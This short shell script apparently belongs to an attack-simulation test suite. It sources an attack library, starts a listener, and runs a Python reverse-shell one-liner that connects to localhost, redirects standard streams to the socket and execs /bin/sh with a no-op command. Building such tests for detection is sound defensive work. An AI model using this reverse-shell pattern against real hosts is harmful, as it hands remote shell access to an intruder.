. "$ATTACKS/lib.sh"
listen
python3 -c "
import os, socket
peer = socket.create_connection(('127.0.0.1', $port))
for stream in range(3): os.dup2(peer.fileno(), stream)
os.execv('/bin/sh', ['sh', '-c', ':'])"
